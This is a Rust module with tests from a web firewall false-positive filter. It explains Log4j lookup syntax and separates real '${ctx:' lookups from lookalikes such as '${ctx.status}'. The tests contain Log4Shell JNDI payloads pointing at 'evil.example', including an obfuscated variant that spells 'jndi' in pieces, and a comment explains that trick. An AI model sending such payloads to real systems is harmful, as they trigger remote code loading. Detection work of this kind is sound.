//! Log4j's lookups: `${prefix:key}` is resolved by the lookup the prefix names (`jndi:` fetches a class from a
//! directory server, `ctx:` reads the thread's context, and `${ctx:x:-j}` yields `j` to spell `jndi` in
//! pieces). A prefix ends with its colon: `${ctx.status}` (a JavaScript template literal's member, a JSP or
//! Thymeleaf expression's variable) names no lookup and Log4j leaves it as it is.

use std::ops::Range;

/// Why a hit of `${ctx` in `value` (CRS 944150's context lookup) is no lookup Log4j resolves: the name goes on
/// with something other than the colon that ends a lookup's prefix (`${ctx.status}`, `${ctxPath}`).
pub fn unresolved(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit.clone())?;
    let named_ctx = matched.len() >= 3 && matched[matched.len() - 3..].eq_ignore_ascii_case(b"ctx");
    let next = value.get(hit.end).copied();
    (named_ctx && next != Some(b':')).then(|| {
        format!(
            "`{}` goes on with {}: a lookup's prefix ends with a colon, so Log4j resolves nothing here",
            String::from_utf8_lossy(matched),
            next.map_or_else(|| "the value's end".to_owned(), |b| format!("`{}`", char::from(b)))
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_context_lookup_ends_its_prefix_with_a_colon() {
        let literal = b"throw new Error(`HTTP ${ctx.status}`)";
        assert!(unresolved(literal, 22..27).is_some());
        assert!(unresolved(b"${ctxPath}/static/app.js", 0..5).is_some());
        assert!(unresolved(b"${ctx:loginId}", 0..5).is_none());
        assert!(unresolved(b"${${ctx:x:-j}ndi:ldap://evil.example/a}", 2..7).is_none());
        assert!(unresolved(b"${jndi:ldap://evil.example/a}", 0..6).is_none());
    }
}
